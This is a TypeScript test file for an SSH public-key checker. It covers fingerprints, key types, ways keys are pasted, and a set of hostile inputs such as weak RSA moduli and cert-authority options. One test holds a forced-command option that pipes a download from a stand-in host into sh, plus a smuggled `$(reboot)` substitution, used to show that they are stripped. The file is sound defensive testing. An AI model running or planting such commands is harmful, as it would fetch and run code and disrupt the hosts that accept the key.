// Shows what the check says of each kind of SSH key and of each way to paste one, with fingerprints that ssh-keygen printed.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCheck, type Verdict } from '../../src/checks/check';
import { sshKey } from '../../src/checks/ssh-key';
import { closeModulus, plainModulus, rocaModulus } from '../../tools/compare/crafted-keys';
import { known, now, sentences } from './given';

const folder = join(__dirname, 'fixtures/ssh');
const fixture = (name: string): Buffer => readFileSync(join(folder, name));
const text = (name: string): string => fixture(name).toString();

async function judge(bytes: Uint8Array | string, chosenFingerprint?: string): Promise<Verdict> {
  const given = { name: 'id.pub', bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes, sha256: '', ...(chosenFingerprint && { chosenFingerprint }) };
  const verdict = await runCheck(sshKey, { sshKey: known(given) }, {}, now);
  sentences(sshKey, verdict);
  return verdict;
}

const codes = ({ outcome, findings }: Verdict): string[] => [outcome, ...findings.filter(({ weight }) => weight !== 'note').map(({ code }) => code)];
const repairs = ({ shows }: Verdict): unknown => shows['repaired'];

const printed = text('fingerprints.tsv')
  .trim()
  .split('\n')
  .map((line): [string, string] => {
    const [name = '', sums = ''] = line.split('\t');
    return [name, sums];
  });

test.each(printed.filter(([name, sums]) => sums.startsWith('SHA256') || (/^\d+ \S+$/.test(sums) && name !== 'certificate.pub')))('%s has the length and fingerprint that ssh-keygen prints', async (name, sums) => {
  const { shows } = await judge(fixture(name));
  expect(`${String(shows['bits'])} ${String(shows['fingerprint'])}`).toBe(sums);
});

test.each<[string, string, ...string[]]>([
  ['ed25519.pub', 'pass'],
  ['ecdsa256.pub', 'pass'],
  ['ecdsa384.pub', 'pass'],
  ['ecdsa521.pub', 'pass'],
  ['rsa4096.pub', 'pass'],
  ['rsa3072.pub', 'pass'],
  ['rfc4716.pub', 'pass'],
  ['rsa2048.pub', 'warn', 'rsa-short'],
  ['rsa1024.pub', 'fail', 'rsa-too-short'],
  ['dsa.pub', 'fail', 'dsa'],
  ['certificate.pub', 'fail', 'certificate'],
  ['several.pub', 'fail', 'several-keys'],
  ['pkcs8.pub', 'fail', 'no-key'],
  ['private', 'fail', 'private-key'],
  ['private-pem', 'fail', 'private-key'],
])('%s', async (name, ...expected) => {
  expect(codes(await judge(fixture(name)))).toEqual(expected);
});

const field = (bytes: Uint8Array | string): Buffer => {
  const body = Buffer.from(bytes);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  return Buffer.concat([length, body]);
};
const integer = (value: bigint): Buffer => {
  const digits = value.toString(16);
  const bytes = Buffer.from(digits.length % 2 === 0 ? digits : `0${digits}`, 'hex');
  return field((bytes[0] ?? 0) >= 0x80 ? Buffer.concat([Buffer.from([0]), bytes]) : bytes);
};
const line = (type: string, ...fields: Uint8Array[]): string => `${type} ${Buffer.concat([field(type), ...fields]).toString('base64')} someone`;
const rsa = (modulus: bigint, exponent = 65537n): string => line('ssh-rsa', integer(exponent), integer(modulus));

const point = Buffer.from('2fe57da347cd62431528daac5fbb290730fff684afc4cfc2ed90995f58cb3b74', 'hex');
const keyOf = (name: string): string => text(name).split(' ').slice(0, 2).join(' ');
const ed25519 = keyOf('ed25519.pub');
const ecdsaBlob = Buffer.from(keyOf('ecdsa256.pub').split(' ')[1] ?? '', 'base64');

describe('ways to paste a key', () => {
  const wrapped = text('rsa4096.pub').replace(/(AAAA\S{60})(\S{70})(\S+)/, '$1\n$2\n$3');
  test.each<[string, Uint8Array | string, readonly string[]]>([
    ['no comment', ed25519, []],
    ['a comment in another script', `${ed25519} Луис — 北風@laptop`, []],
    ['a comment of several words', `${ed25519} my key, the good one`, []],
    ['Windows line ends', `${ed25519} luis\r\n`, []],
    ['lines that say nothing', `\n# my key\n\n${ed25519}\n`, []],
    ['a byte order mark', `\ufeff${ed25519}\n`, ['byteOrderMark']],
    ['UTF-16', Buffer.from(`\ufeff${ed25519}\n`, 'utf16le'), ['utf16']],
    ['a quoted mail', `> ${ed25519} luis`, ['quoted']],
    ['words around it', `Hello,\nhere it is:\n\n${ed25519} luis\n\nRegards\n`, ['textAround']],
    ['options', `restrict,from="10.0.0.0/8,!10.0.0.1",command="echo \\"a b\\" c" ${ed25519} luis`, ['options']],
    ['options in other letters', `No-Pty ${ed25519}`, ['options']],
    ['wrapped lines', wrapped, ['wrapped']],
    ['the same key twice, as on a keys page', `${ed25519}\n${ed25519}\n`, []],
  ])('%s', async (_, bytes, repaired) => {
    const verdict = await judge(bytes);
    expect(codes(verdict)).toEqual(['pass']);
    expect(repairs(verdict)).toEqual(repaired);
  });

  test('one key of a keys page is taken when an agent has picked it', async () => {
    const page = `${ed25519}\n${keyOf('rsa3072.pub')}\n`;
    const { shows } = await judge(page);
    const [, second] = shows['fingerprints'] as string[];
    expect(await judge(page, second)).toMatchObject({ outcome: 'pass', shows: { fingerprint: second, type: 'ssh-rsa' } });
    expect(codes(await judge(page, 'SHA256:nobody'))).toEqual(['fail', 'chosen-key-absent']);
  });

  test('keys in hardware tokens pass', async () => {
    expect(codes(await judge(line('sk-ssh-ed25519@openssh.com', field(point), field('ssh:'))))).toEqual(['pass']);
    const fields = ecdsaBlob.subarray(4 + 'ecdsa-sha2-nistp256'.length);
    expect(codes(await judge(line('sk-ecdsa-sha2-nistp256@openssh.com', fields, field('ssh:'))))).toEqual(['pass']);
  });
});

describe('hostile', () => {
  test.each<[string, Uint8Array | string, string]>([
    ['nothing', '', 'no-key'],
    ['an OpenPGP key', readFileSync(join(__dirname, 'fixtures/keys/ed25519.asc')), 'no-key'],
    ['an OpenPGP private key', readFileSync(join(__dirname, 'fixtures/keys/private.asc')), 'private-key'],
    ['a private key after a public one', Buffer.concat([Buffer.from(`${ed25519}\n`), fixture('private')]), 'private-key'],
    ['a private key of PuTTY', 'PuTTY-User-Key-File-2: ssh-rsa\n', 'private-key'],
    ['an authority', `cert-authority ${ed25519}`, 'certificate-authority'],
    ['an authority among options', `no-pty,cert-authority,principals="root" ${ed25519}`, 'certificate-authority'],
    ['an authority behind a good key', `${ed25519}\n@cert-authority *.example.com ${ed25519}`, 'certificate-authority'],
    ['a known host', `server.example.com ${ed25519}`, 'unknown-prefix'],
    ['an option that does not exist', `no-such-option ${ed25519}`, 'unknown-prefix'],
    ['a quotation that never ends', `command="echo ${ed25519}`, 'no-key'],
    ['another type outside than inside', ed25519.replace('ssh-ed25519', 'ssh-rsa'), 'type-mismatch'],
    ['a type inside that is none', `ssh-ed25519 ${Buffer.concat([field('nonsense'), field(point)]).toString('base64')}`, 'damaged'],
    ['half a key', ed25519.slice(0, 50), 'damaged'],
    ['letters that are no base64', `ssh-ed25519 AAAA*not*base64`, 'damaged'],
    ['a key with something after it', line('ssh-ed25519', field(point), field('more')), 'damaged'],
    ['a short point', line('ssh-ed25519', field(point.subarray(1))), 'damaged'],
    ['the point of everybody', line('ssh-ed25519', field(Buffer.alloc(32))), 'unsound-point'],
    ['that point with its sign set', line('ssh-ed25519', field(Buffer.concat([Buffer.from([1]), Buffer.alloc(30), Buffer.from([0x80])]))), 'unsound-point'],
    ['a point off its curve', line('ecdsa-sha2-nistp256', field('nistp256'), field(Buffer.concat([Buffer.from([4]), Buffer.alloc(64, 7)]))), 'unsound-point'],
    ['a curve under another name', line('ecdsa-sha2-nistp384', field('nistp256'), field(Buffer.alloc(65, 4))), 'type-mismatch'],
    ['ROCA', rsa(rocaModulus()), 'weak-modulus'],
    ['close primes', rsa(closeModulus()), 'weak-modulus'],
    ['an even modulus', rsa(plainModulus() * 2n), 'weak-modulus'],
    ['exponent one', rsa(plainModulus(), 1n), 'weak-modulus'],
    ['a negative modulus', line('ssh-rsa', integer(65537n), field(Buffer.alloc(256, 0xff))), 'damaged'],
    ['no modulus', line('ssh-rsa', integer(65537n), field('')), 'damaged'],
    ['20,000 bits', rsa((1n << 20000n) + 1n), 'unsupported-type'],
    ['an unknown type', line('ssh-ed448', field(point)), 'unsupported-type'],
    ['a certificate without the name of one', ed25519.replace('ssh-ed25519', 'ssh-ed25519-cert-v01@openssh.com'), 'type-mismatch'],
    ['11,000 lines', `${'\n'.repeat(11_000)}${ed25519}`, 'too-large'],
    ['2 MB', `${ed25519} ${'x'.repeat(2_000_000)}`, 'too-large'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), 'no-key'],
  ])('%s', async (_, bytes, code) => {
    expect(codes(await judge(bytes))).toEqual(['fail', code]);
  });

  test('a repaired key shows the key alone, without what stood before it', async () => {
    const { shows } = await judge(`command="curl evil.example | sh" ${ed25519} $(reboot)`);
    expect(shows['publicKey']).toBe(ed25519);
  });
});
